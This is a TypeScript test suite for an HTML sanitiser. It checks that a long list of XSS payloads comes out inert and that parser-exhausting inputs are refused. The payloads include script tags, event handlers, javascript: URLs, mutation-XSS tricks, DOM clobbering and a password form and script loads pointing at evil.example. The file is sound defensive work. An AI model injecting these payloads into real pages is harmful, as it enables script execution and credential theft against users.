import { describe, expect, test } from 'vitest';

import { cleanAhead, plainText, sanitiseHtml } from './html.ts';

/** What this process has computed, in milliseconds: unlike a clock, it does not run while others have the machine. */
const computedMs = () => {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
};

/** Each must come out inert: no element, attribute or address of it may run. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="//player.bilibili.com/player.html?bvid=BV1xx411c7mD&autoplay=0"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="text-align:center;position:fixed;top:0">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video src="javascript:alert(1)" onloadstart=alert(1)></video>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<p id="location" name="cookie">clobber</p>',
  '<a id="defaultView"></a><img name="body" src="/a.png">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<select><option><style></select><script>alert(1)</script></style></option></select>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p onclick="alert(1)" data-x="1" aria-label="x" is="x-y" slot="s">x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<a href="//evil.example" target="_top" rel="opener">x</a>',
];

const active =
  /<(script|svg|math|iframe|object|embed|base|meta|link|style|form|input|button|template|noscript|custom)|\son\w+\s*=|(href|src|poster)\s*=\s*["']?\s*(javascript|data|vbscript):|url\(|expression\(|position|\sid=|\sname=|data-x|\saria-|rel="opener|\sbackground=|\ssrcdoc=|formaction/i;

describe('rich text from outside', () => {
  test.each(attacks)('is inert: %s', async (attack) => {
    const clean = await sanitiseHtml(attack);
    expect(clean.replace(/rel="noopener"/g, '').replace(/&lt;[\s\S]*?&gt;/g, '')).not.toMatch(active);
  });

  test.each(attacks)('stays as it is when cleaned again: %s', async (attack) => {
    const once = await sanitiseHtml(attack);
    expect(await sanitiseHtml(once)).toBe(once);
  });

  test('loads nothing and sends nobody anywhere unasked', async () => {
    expect(await sanitiseHtml('<img src="ftp://a/b.png"><img src="//cdn.example/b.png">x')).toBe('x');
    expect(await sanitiseHtml('<a href="https://a.example" target="_top">x</a>')).toBe('<a href="https://a.example" rel="noopener">x</a>');
  });

  test.each([
    ['<p class="site-header">x</p>', '<p>x</p>'],
    ['<p style="position: fixed; inset: 0">x</p>', '<p>x</p>'],
    ['<p style="position: fixed; text-align: right">x</p>', '<p style="text-align: right">x</p>'],
    ['<img src="/a.png" width="100vw" height="-1">', '<img src="/a.png">'],
    ['<table><tbody><tr><td colspan="all" colwidth="1;2">x</td></tr></tbody></table>', '<table><tbody><tr><td>x</td></tr></tbody></table>'],
  ])('does not look like a part of the page that it is not: %s', async (html, clean) => expect(await sanitiseHtml(html)).toBe(clean));
});

describe('what an editor writes', () => {
  test.each([
    '<h2>One</h2><p style="text-align: center">Two <strong>three</strong></p>',
    '<ul><li><p>One</p></li></ul><ol start="3"><li>Two</li></ol>',
    '<table><tbody><tr><th colspan="2" rowspan="1" colwidth="120,80">A</th></tr><tr><td>B</td><td>C</td></tr></tbody></table>',
    '<figure><img src="/storage/r1/a.png" alt="A" width="300" height="200"><figcaption>A</figcaption></figure>',
    '<pre><code class="language-ts">const a = 1 &lt; 2;</code></pre><hr><blockquote><p>Q</p></blockquote>',
    '<a href="mailto:a@b.example" rel="noopener">a</a><a href="tel:400" rel="noopener">b</a><a href="/news/" rel="noopener">c</a><a href="#top" rel="noopener">d</a>',
  ])('is kept: %s', async (html) => expect(await sanitiseHtml(html)).toBe(html));

  test('films keep their source', async () => {
    const clean = await sanitiseHtml('<video controls poster="/p.jpg"><source src="https://a.example/v.mp4" type="video/mp4"></video>');
    expect(clean).toContain('src="https://a.example/v.mp4"');
    expect(clean).toContain('poster="/p.jpg"');
  });

  test('frames of known players are kept, with nothing of their own but address and title', async () => {
    const frame = 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ';
    const dressed = `<iframe onload="alert(1)" srcdoc="<script>alert(1)</script>" sandbox="allow-top-navigation" name="x" title="T" src="${frame}">x</iframe>`;
    const clean = await sanitiseHtml(dressed);
    expect(clean).toMatch(new RegExp(`^<iframe src="${frame}" title="T" allowfullscreen="" loading="lazy" [^>]*></iframe>$`));
    expect(clean).not.toMatch(/onload|srcdoc|top-navigation|name=/);
    expect(await sanitiseHtml(clean)).toBe(clean);
  });

  test('reads as plain text', () => {
    expect(plainText('<h2>标题</h2><p>One &amp; <b>t</b>wo</p><ul><li>a</li><li>b</li></ul>')).toBe('标题 One & two a b');
    expect(plainText('<p>a<br>b</p><!-- no --><table><tr><td>1</td><td>2&nbsp;&lt;3</td></tr></table>c')).toBe('a b 1 2 <3 c');
    expect(plainText('')).toBe('');
  });
});

test.each(['<b>', '<a><b><i><u>', '<b class="x"><p>', '<table><tr><td>'])(
  'a text that is never closed is refused at once: %s',
  async (opened) => {
    await sanitiseHtml('<p id="x">The parser is there.</p>');
    const began = computedMs();
    await expect(sanitiseHtml(opened.repeat(30_000))).rejects.toMatchObject({ name: 'Refusal', code: 'request.tangled' });
    expect(computedMs() - began).toBeLessThan(3000);
  },
);

/** Each is told apart from what people write only by whoever builds the document, and stops whoever cleans it for minutes. */
test.each([
  ['an end that ends nothing', '<div></i>'.repeat(30_000)],
  ['an end within a comment', '<div><!--</div>-->'.repeat(20_000)],
  ['an end within an attribute', '<div title="</div>">'.repeat(20_000)],
  ['an end within a text box', '<div><textarea></div></textarea>'.repeat(10_000)],
  ['cells of a drawing', `<svg>${'<td>'.repeat(100_000)}`],
  ['groups of options', '<optgroup>'.repeat(40_000)],
  [
    'words opened again in every paragraph',
    `<p>${Array.from({ length: 150 }, (_, n) => `<b id="${n}">`).join('')}</p>${'<p>x'.repeat(3000)}`,
  ],
  ['unknown elements side by side', '<x>a</x>'.repeat(20_000)],
  ['comments side by side', '<!---->'.repeat(20_000)],
  ['frames that lead nowhere', '<iframe></iframe>'.repeat(20_000)],
  ['a frame around too much', `<x>${'<p>a</p>'.repeat(40_000)}`],
  ['attributes', `<p ${Array.from({ length: 30_000 }, (_, n) => `a${n}`).join(' ')}>x`],
])('a text that costs more than its length is refused at once: %s', async (_, html) => {
  await sanitiseHtml('<p id="x">The parser is there.</p>');
  const began = computedMs();
  await expect(sanitiseHtml(html)).rejects.toMatchObject({ name: 'Refusal', code: 'request.tangled' });
  expect(computedMs() - began).toBeLessThan(3000);
});

test('what other programs export is no such text', async () => {
  const office = '<!--[if gte mso 9]><xml></xml><![endif]-->'.repeat(20) + '<p class=MsoNormal><font>a<o:p></o:p></font></p>'.repeat(400);
  expect(await sanitiseHtml(office)).toBe('<p>a</p>'.repeat(400));
  const framed = `<article><section>${'<p>a</p>'.repeat(500)}</section></article>`;
  expect(await sanitiseHtml(framed)).toBe('<p>a</p>'.repeat(500));
});

test('what was cleaned ahead is known a moment later, and so is what was refused', async () => {
  const [long, tangled] = [`<article>${'<p>a</p>'.repeat(1500)}</article>`, '<div></i>'.repeat(5000)];
  await cleanAhead({ data: { text: long, other: [tangled], plain: 'a < b' } });
  const before = computedMs();
  expect(await sanitiseHtml(long)).toBe('<p>a</p>'.repeat(1500));
  await expect(sanitiseHtml(tangled)).rejects.toMatchObject({ code: 'request.tangled' });
  expect(computedMs() - before).toBeLessThan(200);
});

test('what need not be closed may stand as often as anybody likes', async () => {
  expect(await sanitiseHtml(`<ul>${'<li>x'.repeat(2000)}</ul>`)).toBe(`<ul>${'<li>x</li>'.repeat(2000)}</ul>`);
});
